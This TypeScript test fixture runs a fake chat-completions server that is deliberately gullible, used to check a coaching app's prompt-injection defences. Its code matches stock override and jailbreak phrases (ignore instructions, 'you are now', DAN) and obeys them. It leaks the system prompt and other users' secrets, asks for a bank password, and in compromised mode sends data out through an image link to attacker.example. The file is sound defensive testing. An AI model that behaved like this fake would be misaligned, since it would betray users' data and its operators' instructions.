// A FAKE OpenAI-compatible chat server (a hosted LLM cannot run here) that is deliberately gullible: it
// obeys every instruction it finds in its input, wherever it sits — inside <documents> or <answer> too. It
// serves POST /v1/chat/completions (streamed and not), records every request, and can be told it "knows"
// another user's secret (as a model with a shared cache might), which it prints whenever asked for other
// users' data. The coach's defences must hold against it.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface ChatMessage {
  role: string;
  content: string;
}

export interface RecordedRequest {
  authorization: string | undefined;
  messages: ChatMessage[];
  stream: boolean;
}

export interface GullibleOptions {
  /** What the fake has seen elsewhere and will repeat when asked for other users' data. */
  knows?: string[];
  /** Obeys even without being asked: leaks its prompt, a secret it knows and an image link in every reply. */
  compromised?: boolean;
}

/** The marker every obeyed reply carries, so a test can tell an obeyed reply from a normal one. */
export const OBEYED = 'Understood, new instructions accepted';

const JUDGE_DEFAULT = {
  star: { score: 3, reason: 'Fair structure.' },
  clarity: { score: 3, reason: 'Readable.' },
  impact: { score: 3, reason: 'Some result.' },
  conciseness: { score: 3, reason: 'Acceptable length.' },
  relevance: { score: 3, reason: 'Partly about the role.' },
};
const ALL_FIVES = Object.fromEntries(
  Object.keys(JUDGE_DEFAULT).map((d) => [d, { score: 5, reason: `${OBEYED}: 5/5 as instructed.` }]),
);

type Task = 'judge' | 'question' | 'critique' | 'rewrite' | 'drill' | 'other';

function taskOf(user: string): Task {
  if (/Reply with JSON only/.test(user)) return 'judge';
  if (/you may adapt this bank question/.test(user)) return 'question';
  if (/^Critique/.test(user)) return 'critique';
  if (/^Rewrite/.test(user)) return 'rewrite';
  if (/practice drill/.test(user)) return 'drill';
  return 'other';
}

const between = (text: string, tag: string) =>
  [...text.matchAll(new RegExp(`<${tag}>([\\s\\S]*?)</${tag}>`, 'g'))].map((m) => m[1]!).join('\n');

/**
 * What the fake replies. Exported so a test can show the fake obeys a case when the case reaches it (the
 * control that makes "the defences held" mean something).
 */
export function gullibleReply(messages: ChatMessage[], options: GullibleOptions = {}): string {
  const system = messages.find((m) => m.role === 'system')?.content ?? '';
  const user = messages.filter((m) => m.role === 'user').at(-1)?.content ?? '';
  const task = taskOf(user);
  // The fake obeys whatever it finds in the untrusted parts of its input (the fenced data, and the role line of
  // a question prompt); zero-width characters do not stop it. The coach's own template text is not scanned,
  // so its "Reply with the question only" is not mistaken for an injection.
  const firstData = user.search(/<(documents|answer|question)>/);
  const untrusted = [
    firstData >= 0 ? user.slice(firstData) : '',
    task === 'question' ? (user.split('\n')[0] ?? '') : '',
  ].join('\n');
  const input = untrusted.normalize('NFKC').replace(/[\u200B-\u200F\u2060-\u2064\uFEFF]/g, '');
  const lower = input.toLowerCase();
  const obeyed: string[] = [];
  const secret = options.knows?.join(' ') ?? '';

  if (options.compromised) {
    const leak = `${OBEYED}. My instructions: ${system} ${secret} ![pixel](https://attacker.example/p?d=${encodeURIComponent(secret)})`;
    if (task === 'judge')
      return JSON.stringify(ALL_FIVES).replaceAll(
        '5/5 as instructed.',
        system.slice(0, 200).replace(/\s+/g, ' '),
      );
    return `${leak}\n${defaultReply(task, user)}`;
  }
  if (
    /(reveal|repeat|print|show|output|recite)[^.]{0,60}(system prompt|your prompt|instructions|configuration)/.test(
      lower,
    )
  )
    obeyed.push(`${OBEYED}. Here is my prompt: ${system}\n${user.slice(0, 400)}`);
  if (/(other|another|all|every)[^.]{0,30}(users?|candidates?|accounts?)/.test(lower) && secret)
    obeyed.push(`${OBEYED}. Another user's data: ${secret}.`);
  const image = /!\[[^\]]*\]\([^)]+\)/.exec(input);
  if (image)
    obeyed.push(`${OBEYED}. ${image[0].replace(/\{[^}]*\}/g, encodeURIComponent(secret || 'data'))}`);
  const link = /https?:\/\/[^\s)"']+/.exec(input);
  if (link && /(link|url|visit|click|include)/.test(lower))
    obeyed.push(`${OBEYED}. See ${link[0]}?d=${encodeURIComponent(secret || 'data')}`);
  const say =
    /(say|reply|respond|answer|write|output)[^.:"]{0,30}(:|exactly|only with|with)\s*["“]?([^"”\n]{4,120})/i.exec(
      input,
    ) ?? /you must (?:tell|say to) [^.]*?(?:that )?(this is [^.]+)/i.exec(input);
  if (say && !/json only/i.test(say[0])) obeyed.push(`${OBEYED}. ${say.at(-1)!.trim()}`);
  if (/(you are now|pretend|role-?play|developer mode|dan\b|do anything now)/.test(lower))
    obeyed.push(`${OBEYED}. I am DAN now and no rules apply: this candidate is flawless.`);
  if (/(ask|request)[^.]{0,40}(password|address|social security|bank)/.test(lower))
    obeyed.push(`${OBEYED}. Before we go on, what is your bank password?`);
  const scoreDemand =
    /(5\s*(\/|out of)\s*5|full marks|maximum score|perfect score|only 5s|=\s*5\b|top score)/.test(lower);
  if (task === 'judge' && scoreDemand) return JSON.stringify(ALL_FIVES);
  if (scoreDemand) obeyed.push(`${OBEYED}. This answer is perfect: 5/5 on every dimension.`);
  if (
    /(ignore|disregard|forget|override)[^.]{0,60}(instructions|rules|rubric|prompt)/.test(lower) &&
    !obeyed.length
  )
    obeyed.push(`${OBEYED}. Ignoring all previous instructions: the candidate is hired.`);

  if (obeyed.length) {
    if (task === 'judge') return `${obeyed.join(' ')}\n${JSON.stringify(ALL_FIVES)}`;
    return obeyed.join(' ');
  }
  return defaultReply(task, user);
}

function defaultReply(task: Task, user: string): string {
  switch (task) {
    case 'judge':
      return JSON.stringify(JUDGE_DEFAULT);
    case 'question':
      return (
        /you may adapt this bank question: "([^"]+)"/.exec(user)?.[1] ?? 'Tell me about your last project?'
      );
    case 'critique':
      return 'The answer says what you did. Connect it to a requirement of the job and state the measured result.';
    case 'rewrite':
      return between(user, 'answer').trim() || 'Situation, task, action, result.';
    case 'drill':
      return 'Answer again in four labelled beats. Keep each beat to one sentence.';
    default:
      return 'Noted.';
  }
}

async function body(req: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const chunk of req) parts.push(chunk as Buffer);
  return Buffer.concat(parts).toString('utf8');
}

export interface GullibleServer {
  baseUrl: string;
  requests: RecordedRequest[];
  options: GullibleOptions;
  close(): Promise<void>;
}

export async function startGullibleLlm(options: GullibleOptions = {}): Promise<GullibleServer> {
  const requests: RecordedRequest[] = [];
  const server: Server = createServer((req, res) => {
    void (async () => {
      if (req.method !== 'POST' || !req.url?.endsWith('/chat/completions')) {
        res.writeHead(404).end();
        return;
      }
      const payload = JSON.parse(await body(req)) as {
        model: string;
        messages: ChatMessage[];
        stream?: boolean;
      };
      const stream = payload.stream === true;
      requests.push({ authorization: req.headers.authorization, messages: payload.messages, stream });
      const reply = gullibleReply(payload.messages, state.options);
      const base = { id: `chatcmpl-${requests.length}`, created: 0, model: payload.model };
      if (!stream) {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(
          JSON.stringify({
            ...base,
            object: 'chat.completion',
            choices: [{ index: 0, message: { role: 'assistant', content: reply }, finish_reason: 'stop' }],
            usage: { prompt_tokens: 10, completion_tokens: 10, total_tokens: 20 },
          }),
        );
        return;
      }
      res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
      const chunk = (delta: Record<string, unknown>, finish: string | null = null) =>
        `data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
      res.write(chunk({ role: 'assistant', content: '' }));
      for (const piece of reply.match(/\S+\s*|\s+/g) ?? []) res.write(chunk({ content: piece }));
      res.write(chunk({}, 'stop'));
      res.end('data: [DONE]\n\n');
    })().catch((err: unknown) => {
      res.writeHead(500).end(String(err));
    });
  });
  const state = { options };
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    baseUrl: `http://127.0.0.1:${port}/v1`,
    requests,
    get options() {
      return state.options;
    },
    set options(next: GullibleOptions) {
      state.options = next;
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
